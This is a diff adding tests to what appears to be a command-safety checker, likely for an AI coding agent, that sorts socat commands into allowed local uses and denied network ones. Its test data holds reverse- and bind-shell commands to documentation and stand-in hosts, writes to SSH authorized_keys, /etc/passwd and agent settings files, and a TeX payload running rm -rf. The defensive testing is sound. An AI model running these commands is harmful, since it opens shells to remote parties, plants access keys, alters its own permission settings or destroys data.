@@ -148,6 +148,46 @@ def test_shells_and_crontab_without_those_options_keep_their_verdicts(cmd: str, 
     assert verdict(cmd) == expected
 
 
+# socat between local endpoints only (standard input/output, files, a program): no network socket, so no remote party
+# gets a shell or the program's output; the program is judged as the command it is.
+SOCAT_LOCAL = [
+    "socat -u EXEC:'date' OPEN:build/date.txt,creat",
+    "socat STDIO SYSTEM:'ls -la'",
+    "socat -u SYSTEM:'git log -1' STDOUT",
+    "socat - EXEC:'make test'",
+]
+SOCAT_NETWORK = [
+    "socat TCP:203.0.113.9:4444 EXEC:/bin/bash",
+    "socat TCP-LISTEN:4444,fork EXEC:bash,pty",
+    "socat OPENSSL:collect.example.net:443 SYSTEM:'sh -i'",
+    "socat UDP:198.51.100.3:53 EXEC:'python3 -i'",
+]
+
+
+# socat's file addresses on the receiving side are written (OPEN:/GOPEN:/CREATE:, with -u the second address).
+SOCAT_WRITES = [
+    ("socat -u EXEC:'echo x' OPEN:/home/dev/.claude/settings.json,creat", "deny"),
+    ("socat -u TCP-LISTEN:9000 OPEN:/home/dev/.ssh/authorized_keys,creat,append", "deny"),
+    ("socat -u STDIN CREATE:/home/dev/.claude/settings.local.json", "deny"),
+    ("socat -u SYSTEM:date GOPEN:/etc/passwd", "deny"),
+]
+
+
+@pytest.mark.parametrize(("cmd", "expected"), SOCAT_WRITES)
+def test_socat_writes_its_receiving_file_address(cmd: str, expected: str) -> None:
+    assert verdict(cmd) == expected
+
+
+@pytest.mark.parametrize("cmd", SOCAT_LOCAL)
+def test_socat_between_local_endpoints_is_not_a_remote_shell(cmd: str) -> None:
+    assert verdict(cmd) == "allow"
+
+
+@pytest.mark.parametrize("cmd", SOCAT_NETWORK)
+def test_socat_giving_a_socket_a_shell_stays_denied(cmd: str) -> None:
+    assert verdict(cmd) == "deny"
+
+
 # Open classes (left for later; each names its mechanism).
 OPEN: dict[str, str] = {
     "tex --shell-escape '\\immediate\\write18{rm -rf /home/dev}'": "TeX's \\write18 with --shell-escape runs a shell command",
